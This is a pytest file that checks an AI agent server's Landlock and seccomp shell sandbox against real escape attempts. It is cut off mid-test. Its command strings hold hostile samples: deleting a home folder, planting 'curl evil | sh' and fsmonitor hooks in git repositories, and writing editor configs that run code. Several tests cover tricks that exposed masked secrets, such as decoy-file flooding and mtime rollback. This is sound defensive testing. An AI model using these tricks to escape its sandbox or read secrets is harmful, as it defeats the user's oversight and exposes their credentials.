"""The shell sandbox for real: these tests run ``bash`` under Linux Landlock on this machine (no
mocks) and check what a confined command can and cannot change."""

from __future__ import annotations

import asyncio
import ctypes
import http.server
import json
import os
import shutil
import site
import socket
import subprocess
import sys
import tempfile
import threading
import uuid
from pathlib import Path

import pytest

from agent_server.config.load import PolicySettings
from agent_server.policy.modes import DANGER_FULL_ACCESS, READ_ONLY, ModeState
from agent_server.policy.sandbox.confiner import EXEC_WRAPPER, ShellConfiner, probe_status
from agent_server.policy.sandbox.sandbox_exec import landlock_abi
from agent_server.session import EventLog
from agent_server.tools import ToolContext
from agent_server.tools.bash import BashArgs, BashTool
from support.timeouts import HANG


def _raw_abi() -> int:
    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long
    return libc.syscall(ctypes.c_long(444), None, ctypes.c_size_t(0), ctypes.c_uint32(1))


def test_this_kernel_has_landlock_abi_7_by_the_syscall():
    assert _raw_abi() >= 7, "the sandbox tests below need Landlock (kernel ABI 7 on this machine)"
    assert landlock_abi() == _raw_abi()


async def test_probe_sees_every_protection_enforced():
    status = await probe_status(PolicySettings(network=False))
    assert status.write_confinable and status.git_read_only and status.network_blocked, status.problems
    assert status.pid_namespace and status.masks and status.setuid_blocked, status.problems
    assert status.level == "landlock" and status.abi >= 7
    assert (await probe_status(PolicySettings(sandbox="off"))).level == "none"


@pytest.fixture
def box(tmp_path):
    """A workspace, a scratch HOME with a folder to lose, a session temp dir and a log."""
    ws, home, tmp = tmp_path / "ws", tmp_path / "home", tmp_path / "session" / "tmp"
    for folder in (ws, home / "y" / "deep", tmp):
        folder.mkdir(parents=True)
    (home / "y" / "deep" / "keep.txt").write_text("precious")
    log = EventLog.create(tmp_path / "session" / "events.jsonl", {"cwd": str(ws)})
    return ws, home, tmp, log


async def run(box, command, mode="workspace-write", **settings):
    ws, home, tmp, log = box
    policy = PolicySettings(**settings)
    status = await probe_status(policy)
    launcher = ShellConfiner(ModeState(log, mode), status, [ws], tmp, policy)
    env = {"PATH": os.environ["PATH"], "HOME": str(home), "LANG": "C.UTF-8"}
    ctx = ToolContext(ToolContext.on_disk(ws).roots, ToolContext.on_disk(ws).files, ToolContext.on_disk(ws).reads,
                      env=env, shell_launcher=launcher)
    return await BashTool().run(BashArgs(command=command), ctx)


async def test_writes_outside_the_roots_fail_with_permission_errors_and_change_nothing(box):
    ws, home, tmp, _ = box
    etc = f"/etc/agent-server-sandbox-{uuid.uuid4().hex}"
    res = await run(box, f"touch $HOME/x; cd / && rm -rf ~/y; touch {etc}; echo done")
    assert "Permission denied" in res.text and "done" in res.text
    assert not (home / "x").exists() and (home / "y" / "deep" / "keep.txt").read_text() == "precious"
    assert not Path(etc).exists()
    assert res.meta["sandbox"]["sandbox"] == "landlock-workspace-write"


async def test_inside_the_workspace_and_the_session_temp_dir_writes_work(box):
    ws, _, tmp, _ = box
    res = await run(box, 'touch x && mkdir -p a/b && echo hi > a/b/c && mv a/b/c a/d && echo t > "$TMPDIR/t" '
                         "&& echo ok > /dev/null && echo $TMPDIR")
    assert not res.is_error, res.text
    assert (ws / "x").exists() and (ws / "a" / "d").read_text() == "hi\n" and (tmp / "t").exists()
    assert str(tmp) in res.text


async def test_git_commit_fails_because_git_is_read_only_and_says_why(box):
    ws, *_ = box
    subprocess.run(["git", "init", "-q", str(ws)], check=True)
    subprocess.run(["git", "-C", str(ws), "-c", "user.name=t", "-c", "user.email=t@t", "commit", "-q",
                    "--allow-empty", "-m", "first"], check=True)
    head = subprocess.run(["git", "-C", str(ws), "rev-parse", "HEAD"], capture_output=True, text=True).stdout
    res = await run(box, "echo a > a.txt && git add a.txt && git -c user.name=t -c user.email=t@t commit -m second")
    assert res.is_error and "Read-only file system" in res.text
    assert "`.git` is read-only" in res.text and "danger-full-access" in res.text
    assert subprocess.run(["git", "-C", str(ws), "rev-parse", "HEAD"], capture_output=True, text=True).stdout == head
    assert (ws / "a.txt").exists()  # the work tree itself stayed writable


async def test_confined_root_cannot_unmount_the_read_only_git_or_remount_it(box):
    ws, *_ = box
    (ws / ".git").mkdir()
    res = await run(box, "umount .git; mount -o remount,rw .git; touch .git/x; grep CapEff /proc/self/status")
    assert not (ws / ".git" / "x").exists()
    assert "CapEff:\t0000000000000000" in res.text


async def test_network_false_blocks_tcp_to_localhost(box):
    hits = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self):  # noqa: N802
            hits.append(self.path)
            self.send_response(200)
            self.end_headers()

        def log_message(self, *a):
            pass

    server = http.server.HTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        url = f"http://127.0.0.1:{server.server_address[1]}/probe"
        blocked = await run(box, f"curl -sS -m 5 {url}", network=False)
        assert blocked.is_error and hits == []
        allowed = await run(box, f"curl -sS -m 5 -o /dev/null -w '%{{http_code}}' {url}", network=True)
        assert "200" in allowed.text and hits == ["/probe"]
    finally:
        server.shutdown()


async def test_read_only_mode_confines_the_shell_read_only(box):
    ws, home, tmp, _ = box
    (ws / "f.txt").write_text("data")
    res = await run(box, 'cat f.txt; touch x; echo t > "$TMPDIR/t"; echo rc=$?', mode=READ_ONLY)
    assert "data" in res.text and "Permission denied" in res.text and "rc=0" in res.text
    assert not (ws / "x").exists() and (tmp / "t").exists()
    assert "read-only" in res.text  # the sandbox hint names the mode


async def test_danger_full_access_runs_unconfined(box):
    _, home, _, _ = box
    res = await run(box, "touch $HOME/x", mode=DANGER_FULL_ACCESS)
    assert not res.is_error and (home / "x").exists() and res.meta["sandbox"]["sandbox"] == "none"


async def test_read_only_without_a_sandbox_refuses_instead_of_running_unconfined(box):
    ws, *_ = box
    res = await run(box, "touch x", mode=READ_ONLY, sandbox="off")
    assert res.is_error and res.text.startswith("Refused") and not (ws / "x").exists()


def test_the_wrapper_never_runs_a_command_it_could_not_confine(tmp_path):
    marker = tmp_path / "ran"
    spec = {"read": ["/"], "write": [str(tmp_path)], "ro_binds": [str(tmp_path / "missing" / ".git")]}
    proc = subprocess.run([sys.executable, "-I", "-S", str(EXEC_WRAPPER), "--spec", json.dumps(spec), "--",
                           "touch", str(marker)], capture_output=True, text=True)
    assert proc.returncode == 126 and "it was not run" in proc.stderr and not marker.exists()


def test_the_wrapper_confines_a_non_root_user_too():
    """Not root: the read-only ``.git`` needs a user namespace, which the probe must really get."""
    # a privilege test fails, never skips, when the privilege is missing (CI runs as root)
    assert os.geteuid() == 0 and shutil.which("setpriv"), "needs root (and setpriv) to switch to an unprivileged user"
    base = tempfile.mkdtemp(prefix="agent-server-nobody-")
    try:
        os.chmod(base, 0o777)
        proc = subprocess.run(["setpriv", "--reuid", "65534", "--regid", "65534", "--clear-groups", sys.executable,
                               "-I", "-S", "-B", str(EXEC_WRAPPER), "--probe", os.path.join(base, "p")],
                              capture_output=True, text=True)
        report = json.loads(proc.stdout or "{}")
        assert report.get("filesystem") and report.get("git_read_only"), (report, proc.stderr)
        assert report.get("pid_namespace") and report.get("masks") and report.get("setuid_blocked"), report
    finally:
        shutil.rmtree(base, ignore_errors=True)


# -- issue 11: namespaces, masks, seccomp, sweep -------------------------------------------------


def _in_child(fn):
    """Run ``fn`` in a forked child; returns what it wrote (its result as text)."""
    read_end, write_end = os.pipe()
    pid = os.fork()
    if pid == 0:
        os.close(read_end)
        try:
            os.write(write_end, repr(fn()).encode())
        except BaseException as exc:  # noqa: BLE001
            os.write(write_end, f"error {exc!r}".encode())
        os._exit(0)
    os.close(write_end)
    out = os.read(read_end, 65536).decode()
    os.close(read_end)
    os.waitpid(pid, 0)
    return out


def test_seccomp_filter_refuses_setuid_bits_and_unix_sockets_but_not_socketpair_or_plain_modes(tmp_path):
    import socket

    from agent_server.policy.sandbox import sandbox_seccomp

    assert sandbox_seccomp.supported(), "the seccomp filter needs x86-64 or aarch64"

    def attempt():
        sandbox_seccomp.install(block_unix=True)
        outcome = {}
        for name, action in {
            "chmod_suid": lambda: os.chmod(tmp_path / "f", 0o4755),
            "chmod_sgid": lambda: os.chmod(tmp_path / "f", 0o2755),
            "chmod_plain": lambda: os.chmod(tmp_path / "f", 0o700),
            "open_suid": lambda: os.close(os.open(tmp_path / "g", os.O_CREAT | os.O_WRONLY, 0o4755)),
            "open_plain": lambda: os.close(os.open(tmp_path / "h", os.O_CREAT | os.O_WRONLY, 0o755)),
            "open_existing_odd_mode": lambda: os.close(os.open(tmp_path / "f", os.O_RDONLY, 0o4755)),
            "mkdir_sgid": lambda: os.mkdir(tmp_path / "d", 0o2775),
            "unix": lambda: socket.socket(socket.AF_UNIX).close(),
            "pair": lambda: [s.close() for s in socket.socketpair()],
            "inet": lambda: socket.socket().close(),
        }.items():
            try:
                action()
                outcome[name] = "ok"
            except PermissionError:
                outcome[name] = "EPERM"
        return outcome

    (tmp_path / "f").write_text("x")
    result = eval(_in_child(attempt))  # noqa: S307 - our own repr
    assert result == {"chmod_suid": "EPERM", "chmod_sgid": "EPERM", "chmod_plain": "ok", "open_suid": "EPERM",
                      "open_plain": "ok", "open_existing_odd_mode": "ok", "mkdir_sgid": "EPERM", "unix": "EPERM",
                      "pair": "ok", "inet": "ok"}
    assert not (tmp_path / "g").exists() and not (tmp_path / "d").exists()


def test_secret_scanner_finds_secret_named_files_and_relists_only_changed_folders(tmp_path, monkeypatch):
    from agent_server.policy.sandbox import shell_masks
    from agent_server.policy.sandbox.shell_masks import SecretScanner

    monkeypatch.setattr(shell_masks, "RACY_NS", -1)  # the test's folders are all "just changed"

    (tmp_path / "a" / "b").mkdir(parents=True)
    (tmp_path / ".venv-like" / ".env").mkdir(parents=True)  # a folder named like a secret is not hidden
    (tmp_path / ".env").write_text("x")
    (tmp_path / "a" / "b" / "key.pem").write_text("x")
    (tmp_path / ".git").mkdir()
    (tmp_path / ".git" / ".env").write_text("x")  # .git is read-only and skipped
    (tmp_path / "node_modules" / "pkg").mkdir(parents=True)
    (tmp_path / "node_modules" / "pkg" / "test.pem").write_text("x")  # third-party: not scanned
    scanner = SecretScanner([".env*", "*.pem", "~/.ssh/**"])
    assert scanner.scan([tmp_path]) == sorted([str(tmp_path / ".env"), str(tmp_path / "a" / "b" / "key.pem")])
    listed = dict(scanner._cache)
    (tmp_path / "a" / ".env.local").write_text("x")
    assert str(tmp_path / "a" / ".env.local") in scanner.scan([tmp_path])
    assert scanner._cache[str(tmp_path / "a" / "b")] is listed[str(tmp_path / "a" / "b")]  # not re-listed


def test_sweep_clears_setuid_and_setgid_bits_in_the_roots_but_never_follows_a_link_outside(tmp_path):
    from agent_server.policy.sandbox.shell_masks import sweep_setuid

    root, outside = tmp_path / "root", tmp_path / "outside"
    (root / "deep").mkdir(parents=True)
    outside.mkdir()
    for path, mode in ((root / "deep" / "u", 0o4755), (root / "g", 0o2755), (outside / "o", 0o4755)):
        path.write_text("x")
        os.chmod(path, mode)
    (root / "link").symlink_to(outside / "o")
    assert sorted(sweep_setuid([root])) == sorted([str(root / "deep" / "u"), str(root / "g")])
    assert [oct(stat_mode(p)) for p in (root / "deep" / "u", root / "g", outside / "o")] == ["0o755", "0o755", "0o4755"]


def test_a_big_tree_swept_with_find_clears_exactly_what_the_python_walk_clears(tmp_path, monkeypatch):
    from agent_server.policy.sandbox import shell_masks

    def tree(base):
        root, outside = base / "r [*?]", base / "outside"
        (root / "deep\nline").mkdir(parents=True)
        (root / ".git [x]").mkdir()
        outside.mkdir()
        for i in range(shell_masks.FIND_ABOVE + 10):  # big enough for the find path
            (root / f"f{i}").write_text("x")
        for path, mode in ((root / "deep\nline" / "u\nv", 0o4755), (root / "g*", 0o2755), (outside / "o", 0o4755),
                           (root / ".git [x]" / "kept", 0o4755)):
            path.write_text("x")
            os.chmod(path, mode)
        (root / "link").symlink_to(outside / "o")
        os.mkfifo(root / "fifo")
        return root, outside

    walked_root, _ = tree(tmp_path / "walk")
    walked = shell_masks.sweep_setuid([walked_root], [str(walked_root / ".git [x]")])
    root, outside = tree(tmp_path / "find")
    sweeper = shell_masks.SetuidSweeper()
    first = sweeper([root], [str(root / ".git [x]")])  # the first sweep walks in Python
    assert sorted(first) == sorted([str(root / "deep\nline" / "u\nv"), str(root / "g*")])
    assert sweeper.entries > shell_masks.FIND_ABOVE and sweeper.find, "the next sweep uses find"
    for path, mode in ((root / "deep\nline" / "u\nv", 0o4755), (root / "g*", 0o2755)):
        os.chmod(path, mode)
    monkeypatch.setattr(shell_masks, "_walk_and_clear", lambda *_: pytest.fail("the big tree was walked in Python"))
    found = sweeper([root], [str(root / ".git [x]")])
    assert sorted(os.path.relpath(p, root) for p in found) == sorted(os.path.relpath(p, walked_root) for p in walked)
    assert sorted(found) == sorted([str(root / "deep\nline" / "u\nv"), str(root / "g*")])
    assert [oct(stat_mode(p)) for p in (root / "deep\nline" / "u\nv", root / "g*", outside / "o",
                                        root / ".git [x]" / "kept")] == ["0o755", "0o755", "0o4755", "0o4755"]


def stat_mode(path):
    import stat

    return stat.S_IMODE(os.stat(path).st_mode)


async def test_background_daemon_started_with_setsid_nohup_ends_with_its_call(box):
    ws, *_ = box
    res = await run(box, "setsid nohup sh -c 'while true; do date >> beat; sleep 0.05; done' >/dev/null 2>&1 & "
                         "sleep 0.3; echo $$")
    assert res.text.splitlines()[0] == "2"  # bash is PID 2 of its own namespace (PID 1 is the init)
    size = (ws / "beat").stat().st_size
    await asyncio.sleep(0.4)
    assert (ws / "beat").stat().st_size == size


async def test_exit_status_and_signal_of_the_confined_command_are_reported_as_without_the_sandbox(box):
    assert (await run(box, "exit 3")).meta["exit_code"] == 3
    killed = await run(box, "kill -TERM $$")
    assert killed.meta["exit_code"] == -15 and "killed by SIGTERM" in killed.text


async def test_yes_into_head_broke_the_pipe_loudly_because_sigpipe_was_ignored(box):
    res = await run(box, "yes | head -n 1")
    assert res.text.startswith("y\n") and "Broken pipe" not in res.text and res.meta["exit_code"] == 0


async def test_a_thousand_secret_files_made_the_spec_too_long_for_one_argument(box):
    ws, *_ = box
    for i in range(1200):  # more masked files than fit in one 128 KiB argument
        (ws / f"{'d' * 60}{i // 100}").mkdir(exist_ok=True)
        (ws / f"{'d' * 60}{i // 100}" / f".env.{'x' * 40}{i}").write_text("SECRET")
    res = await run(box, f"cat {'d' * 60}0/.e*{'x' * 40}0 | head -c 100; ls {box[2].parent} | grep -c sandbox-spec")
    assert "SECRET" not in res.text and "Permission denied" in res.text
    assert res.text.splitlines()[1] == "0"  # the spec file was consumed


# -- abstract unix sockets and signals (Landlock scopes, ABI 6) ---------------------------------

CONNECT_ABSTRACT = ("import socket, sys\n"
                    "try:\n"
                    "    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)\n"
                    "    s.connect(chr(0) + sys.argv[1]); s.sendall(b'leak'); print('CONNECTED')\n"
                    "except OSError as exc:\n"
                    "    print('REFUSED', exc.strerror)\n")
OWN_ABSTRACT = ("import os, socket\n"
                "name = chr(0) + 'own-' + os.urandom(4).hex()\n"
                "srv = socket.socket(socket.AF_UNIX); srv.bind(name); srv.listen(1)\n"
                "c = socket.socket(socket.AF_UNIX); c.connect(name); c.sendall(b'hi')\n"
                "print('OWN', srv.accept()[0].recv(2).decode())\n")


@pytest.mark.parametrize("network", [True, False])
async def test_network_on_shell_reached_an_abstract_unix_socket_outside_the_sandbox(box, network):
    """The D-Bus session bus and X11 listen on abstract sockets; with the network on, the shell
    connected to them (no network namespace, and seccomp refuses AF_UNIX only with it off)."""
    ws, *_ = box
    name = f"agent-server-test-{uuid.uuid4().hex}"
    listener = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    listener.bind("\0" + name)
    listener.listen(1)
    listener.setblocking(False)
    (ws / "connect.py").write_text(CONNECT_ABSTRACT)
    try:
        res = await run(box, f"python3 connect.py {name}", network=network)
        assert "REFUSED" in res.text and "CONNECTED" not in res.text, res.text
        with pytest.raises(BlockingIOError):
            listener.accept()
    finally:
        listener.close()
    status = await probe_status(PolicySettings(network=network))
    assert status.abstract_unix_blocked and status.as_data()["abstract_unix_sockets"] == "refused"
    if network:  # the scope is no blanket ban: the command's own abstract sockets still work
        (ws / "own.py").write_text(OWN_ABSTRACT)
        own = await run(box, "python3 own.py", network=True)
        assert "OWN hi" in own.text, own.text
        assert "abstract unix sockets outside the sandbox (X11, a D-Bus bus at an abstract address) are not" in res.text


async def test_probe_sees_signals_to_processes_outside_the_sandbox_refused_by_landlock():
    for network in (True, False):
        status = await probe_status(PolicySettings(network=network))
        assert status.signals_scoped and status.as_data()["signals_outside"] == "refused", status


async def test_editor_configuration_in_the_workspace_is_read_only_to_a_confined_command(box):
    """.vscode/settings.json choosing the extension's server binary (run later outside the sandbox),
    .nvim.lua run by Neovim's 'exrc' …: existing ones cannot be changed, replaced or removed; missing
    ones cannot be created (an empty read-only placeholder folder holds the name while the command
    runs, and is gone after it); the rest of the workspace stays writable."""
    ws, *_ = box
    (ws / ".vscode").mkdir()
    (ws / ".vscode" / "settings.json").write_text("{}")
    (ws / ".exrc").write_text('" mine\n')
    res = await run(box, """
        printf '{"agentServer.path": "/tmp/x"}' > .vscode/settings.json; echo vs=$?
        printf '#!/bin/sh\\n' > .vscode/run.sh; echo run=$?
        mv .vscode .vscode-old; echo mv=$?
        rm -rf .vscode; echo rm=$?
        echo 'vim.cmd("!id")' > .exrc; echo exrc=$?
        mkdir -p .idea/tools; echo idea=$?
        mkdir .zed; echo zed=$?
        echo 'os.execute("id")' > .nvim.lua; echo nvimlua=$?
        ln -s /tmp .nvimrc; echo nvimrc=$?
        ls -ld .nvim.lua .idea | wc -l
        echo ok > plain.txt && mkdir -p .vscodex && echo fine
    """)
    out = res.text
    for step in ("vs", "run", "mv", "rm", "exrc", "idea", "zed", "nvimlua", "nvimrc"):
        assert f"{step}=0" not in out, (step, out)
    assert "fine" in out and (ws / "plain.txt").read_text() == "ok\n" and (ws / ".vscodex").is_dir()
    assert (ws / ".vscode" / "settings.json").read_text() == "{}"
    assert sorted(p.name for p in (ws / ".vscode").iterdir()) == ["settings.json"]
    assert (ws / ".exrc").read_text() == '" mine\n'
    for name in (".idea", ".zed", ".nvim.lua", ".nvimrc"):
        assert not os.path.lexists(ws / name), f"{name} was created (or its placeholder left behind)"
    assert "editors' configuration" in out  # the hint says why


async def test_two_commands_at_once_share_a_placeholder_and_the_last_removes_it(box):
    ws, *_ = box
    slow = asyncio.ensure_future(run(box, "touch started; while [ ! -e go ]; do sleep 0.02; done; mkdir .zed; "
                                          "echo zed=$?"))
    while not (ws / "started").exists():  # the slow one runs (its placeholders are made before it starts)
        assert not slow.done(), slow.result().text
        await asyncio.sleep(0.01)
    try:
        fast = await run(box, "test -d .zed && echo held")
    finally:
        (ws / "go").touch()
    assert "held" in fast.text  # the placeholder, seen read-only while the slow one runs
    res = await slow
    assert "zed=0" not in res.text, res.text
    assert not os.path.lexists(ws / ".zed")


async def test_danger_full_access_may_write_editor_configuration(box):
    ws, *_ = box
    res = await run(box, "mkdir .vscode && echo '{}' > .vscode/settings.json", mode=DANGER_FULL_ACCESS)
    assert not res.is_error and (ws / ".vscode" / "settings.json").exists()


# -- issue 32 §1: what git runs from the tree -----------------------------------------------------

HOOKED_REPO_COMMAND = """
    printf '#!/bin/sh\\nid > /tmp/pwned\\n' > .husky/pre-commit; echo husky=$?
    printf '#!/bin/sh\\nid\\n' > .husky/post-checkout; echo husky_new=$?
    rm -rf .husky; echo husky_rm=$?
    echo 'repos: []' > .pre-commit-config.yaml; echo precommit=$?
    echo 'pre-commit: {commands: {x: {run: id}}}' > lefthook.yml; echo lefthook=$?
    mkdir -p .lefthook/pre-commit; echo lefthook_dir=$?
    printf '[core]\\n\\tfsmonitor = ./evil.sh\\n' > gitconfig.local; echo include=$?
    mkdir -p cfg/git && echo x > cfg/git/extra; echo include_missing=$?
    echo 'id' >> scripts/clean.sh; echo driver=$?
    echo ok > plain.txt && echo fine
"""


def hooked_repo(ws: Path) -> None:
    """husky (core.hooksPath = .husky), pre-commit, lefthook installed (no lefthook.yml yet), an include,
    a missing include and a filter driver."""
    subprocess.run(["git", "init", "-q", str(ws)], check=True)
    (ws / ".husky").mkdir()
    (ws / ".husky" / "pre-commit").write_text("#!/bin/sh\nnpm test\n")
    (ws / ".pre-commit-config.yaml").write_text("repos: [mine]\n")
    (ws / ".git" / "hooks" / "post-merge").write_text("#!/bin/sh\nlefthook run post-merge\n")  # lefthook installed
    (ws / "gitconfig.local").write_text("[user]\n\tname = me\n")
    (ws / "scripts").mkdir()
    (ws / "scripts" / "clean.sh").write_text("#!/bin/sh\ncat\n")
    for key, value in (("core.hooksPath", ".husky"), ("include.path", "../gitconfig.local"),
                       ("includeIf.gitdir:/nowhere/.path", "../cfg/git/extra"),
                       ("filter.tidy.clean", "scripts/clean.sh %f")):
        subprocess.run(["git", "-C", str(ws), "config", key, value], check=True)


def assert_hooks_held(ws: Path, out: str) -> None:
    for step in ("husky", "husky_new", "husky_rm", "precommit", "lefthook", "lefthook_dir", "include",
                 "include_missing", "driver"):
        assert f"{step}=0" not in out, (step, out)
    assert "fine" in out and (ws / "plain.txt").read_text() == "ok\n"
    assert (ws / ".husky" / "pre-commit").read_text() == "#!/bin/sh\nnpm test\n"
    assert sorted(p.name for p in (ws / ".husky").iterdir()) == ["pre-commit"]
    assert (ws / ".pre-commit-config.yaml").read_text() == "repos: [mine]\n"
    assert (ws / "gitconfig.local").read_text() == "[user]\n\tname = me\n"
    assert (ws / "scripts" / "clean.sh").read_text() == "#!/bin/sh\ncat\n"
    for name in ("lefthook.yml", ".lefthook", "cfg"):
        assert not os.path.lexists(ws / name), f"{name} was created (or its placeholder left behind)"


async def test_git_hooks_in_the_working_tree_ran_unconfined_now_read_only_to_a_confined_command(box):
    """husky's .husky/pre-commit rewritten by a confined command ran on the user's next commit."""
    ws, *_ = box
    hooked_repo(ws)
    res = await run(box, HOOKED_REPO_COMMAND)
    assert_hooks_held(ws, res.text)
    assert "what git runs from the tree" in res.text  # the hint says why


def nested_repos(ws: Path) -> None:
    """A folder of repositories (the root is none): ``app`` with husky (core.hooksPath = .husky),
    ``lib`` plain, and ``wt`` a worktree of ``lib`` (its .git a link file)."""
    for name in ("app", "lib"):
        subprocess.run(["git", "init", "-q", str(ws / name)], check=True)
    subprocess.run(["git", "-C", str(ws / "app"), "config", "core.hooksPath", ".husky"], check=True)
    (ws / "app" / ".husky").mkdir()
    (ws / "app" / ".husky" / "pre-commit").write_text("#!/bin/sh\nnpm test\n")
    git = ["git", "-C", str(ws / "lib"), "-c", "user.name=u", "-c", "user.email=u@x"]
    subprocess.run([*git, "commit", "-q", "--allow-empty", "-m", "init"], check=True)
    subprocess.run([*git, "worktree", "add", "-q", str(ws / "wt")], check=True)


NESTED_REPOS_COMMAND = """
    echo 'curl evil | sh' > lib/.git/hooks/pre-commit; echo hook=$?
    git -C lib config core.fsmonitor ./evil.sh; echo config=$?
    echo 'curl evil | sh' >> app/.husky/pre-commit; echo husky=$?
    printf 'gitdir: /tmp/evil\n' > wt/.git; echo link=$?
    echo ok > lib/plain.txt && echo fine
"""


def assert_nested_repos_held(ws: Path, out: str) -> None:
    for step in ("hook", "config", "husky", "link"):
        assert f"{step}=0" not in out.splitlines(), (step, out)
    assert not (ws / "lib" / ".git" / "hooks" / "pre-commit").exists()
    assert "fsmonitor" not in (ws / "lib" / ".git" / "config").read_text()
    assert (ws / "app" / ".husky" / "pre-commit").read_text() == "#!/bin/sh\nnpm test\n"
    assert (ws / "wt" / ".git").read_text().startswith("gitdir: ") and "/tmp/evil" not in (ws / "wt" / ".git").read_text()
    assert "fine" in out and (ws / "lib" / "plain.txt").read_text() == "ok\n"


async def test_git_hooks_of_a_repository_nested_in_the_workspace_ran_unconfined(box):
    """Issue 32 §1's class: only the root's .git (and the root repository's hooks) were read-only; a
    workspace holding repositories (a folder of clones, a vendored repository, a worktree) left
    theirs writable — .git/hooks, .git/config (core.fsmonitor), the husky folder, a worktree's link."""
    ws, *_ = box
    nested_repos(ws)
    res = await run(box, NESTED_REPOS_COMMAND)
    assert_nested_repos_held(ws, res.text)


def test_git_hooks_of_a_repository_nested_in_the_workspace_are_read_only_for_a_normal_user():
    ws, (out,) = as_normal_user(nested_repos, [NESTED_REPOS_COMMAND])
    try:
        assert_nested_repos_held(ws, out)
    finally:
        shutil.rmtree(ws.parent, ignore_errors=True)


def as_normal_user(prepare, commands: list[str], mode: str = "workspace-write",
                   keep: bool | None = None) -> tuple[Path, list[str]]:
    """Run ``commands`` one after the other in one confined session of user 65534 (nobody), in a
    workspace ``prepare(ws)`` filled before the session started; returns the workspace (removed at
    by the caller's ``finally``) and each command's output."""
    assert os.geteuid() == 0 and shutil.which("setpriv"), "needs root (and setpriv) to switch to an unprivileged user"
    base = tempfile.mkdtemp(prefix="agent-server-nobody-")
    os.chmod(base, 0o777)
    ws = Path(base) / "ws"
    ws.mkdir()
    prepare(ws)
    subprocess.run(["chown", "-R", "65534:65534", base], check=True)
    script = Path(base) / "run.py"
    script.write_text(
        "import asyncio, json, os, sys\n"
        f"sys.path[:0] = {[str(Path(__file__).resolve().parents[2]), *site.getsitepackages()]!r}\n"
        "from pathlib import Path\n"
        "from agent_server.config.load import PolicySettings\n"
        "from agent_server.policy.modes import ModeState\n"
        "from agent_server.policy.sandbox.confiner import ShellConfiner, probe_status\n"
        "from agent_server.session import EventLog\n"
        "from agent_server.tools import ToolContext\n"
        "from agent_server.tools.bash import BashArgs, BashTool\n"
        "async def main():\n"
        f"    base = Path({base!r}); ws = base / 'ws'; tmp = base / 'session' / 'tmp'; tmp.mkdir(parents=True)\n"
        "    log = EventLog.create(base / 'session' / 'events.jsonl', {'cwd': str(ws)})\n"
        "    policy = PolicySettings(); status = await probe_status(policy)\n"
        "    assert status.write_confinable, status.problems\n"
        f"    launcher = ShellConfiner(ModeState(log, {mode!r}), status, [ws], tmp, policy)\n"
        "    d = ToolContext.on_disk(ws)\n"
        "    ctx = ToolContext(d.roots, d.files, d.reads, env={'PATH': os.environ['PATH'], 'HOME': str(base)},"
        " shell_launcher=launcher)\n"
        "    asked = []\n"
        "    async def ask_keep(call_id, changes):\n"
        "        asked.append(sorted(os.path.relpath(c.path, ws) for c in changes))\n"
        f"        return {keep!r}\n"
        f"    if {keep!r} is not None: launcher.ask_keep = ask_keep\n"
        f"    outs = [(await BashTool().run(BashArgs(command=c), ctx)).text for c in {commands!r}]\n"
        f"    print(json.dumps(outs + [json.dumps(asked)] if {keep!r} is not None else outs))\n"
        "asyncio.run(main())\n")
    # the system's interpreter: the suite's may live under a folder a normal user cannot enter
    python = "/usr/bin/python3.11" if os.access("/usr/bin/python3.11", os.X_OK) else sys.executable
    proc = subprocess.run(["setpriv", "--reuid", "65534", "--regid", "65534", "--clear-groups", python,
                           str(script)], capture_output=True, text=True, timeout=180,
                          env={"PATH": os.environ["PATH"], "HOME": base})
    if proc.returncode != 0:
        shutil.rmtree(base, ignore_errors=True)
        raise AssertionError(proc.stderr)
    return ws, json.loads(proc.stdout.strip().splitlines()[-1])


def test_git_hooks_in_the_working_tree_are_read_only_to_a_confined_command_of_a_normal_user():
    ws, (out,) = as_normal_user(hooked_repo, [HOOKED_REPO_COMMAND])
    try:
        assert_hooks_held(ws, out)
    finally:
        shutil.rmtree(ws.parent, ignore_errors=True)


# -- issue 32 §2: decoys ---------------------------------------------------------------------------

#: Renames the folder of a masked secret and sets its parent's mtime back, so a scan keyed by mtime
#: kept the old listing and the next command read the secret unmasked.
RENAME_AWAY = ['cd sub && m=$(stat -c %.9Y .) && mv certs c2 && touch -d "@$m" . && echo renamed',
               "cat sub/c2/*; echo rc=$?"]


def _secret_in_a_sub_folder(ws: Path) -> None:
    (ws / "sub" / "certs").mkdir(parents=True)
    (ws / "sub" / "certs" / "server.pem").write_text("-----BEGIN PRIVATE KEY-----\n")


async def test_a_secret_folder_renamed_with_its_parents_mtime_set_back_went_unmasked(box):
    ws, home, tmp, log = box
    _secret_in_a_sub_folder(ws)
    policy = PolicySettings()
    launcher = ShellConfiner(ModeState(log, "workspace-write"), await probe_status(policy), [ws], tmp, policy)
    disk = ToolContext.on_disk(ws)
    ctx = ToolContext(disk.roots, disk.files, disk.reads, env={"PATH": os.environ["PATH"], "HOME": str(home)},
                      shell_launcher=launcher)
    renamed, read = [(await BashTool().run(BashArgs(command=c), ctx)).text for c in RENAME_AWAY]
    assert "renamed" in renamed
    assert "PRIVATE KEY" not in read and "Permission denied" in read


def test_a_secret_folder_renamed_with_its_parents_mtime_set_back_went_unmasked_for_a_normal_user():
    ws, (renamed, read) = as_normal_user(_secret_in_a_sub_folder, RENAME_AWAY)
    try:
        assert "renamed" in renamed
        assert "PRIVATE KEY" not in read and "Permission denied" in read
    finally:
        shutil.rmtree(ws.parent, ignore_errors=True)


async def test_decoy_files_pushed_real_secrets_out_of_the_masks(box):
    """1,001 files named like secrets, made in one call, filled the mask list: in the next call the
    real .env and certs/server.pem were readable without a question. The session's own files never
    count: what existed before it is hidden first."""
    ws, home, tmp, log = box
    (ws / ".env").write_text("API_TOKEN=real-secret\n")
    (ws / "certs").mkdir()
    (ws / "certs" / "server.pem").write_text("-----BEGIN PRIVATE KEY-----\n")
    policy = PolicySettings()
    status = await probe_status(policy)
    launcher = ShellConfiner(ModeState(log, "workspace-write"), status, [ws], tmp, policy)  # the session starts
    env = {"PATH": os.environ["PATH"], "HOME": str(home), "LANG": "C.UTF-8"}
    disk = ToolContext.on_disk(ws)
    ctx = ToolContext(disk.roots, disk.files, disk.reads, env=env, shell_launcher=launcher)
    made = await BashTool().run(BashArgs(command="mkdir a && cd a && for i in $(seq 0 1000); do : > ./-$i.pem; done;"
                                                 " ls | wc -l"), ctx)
    assert "1001" in made.text
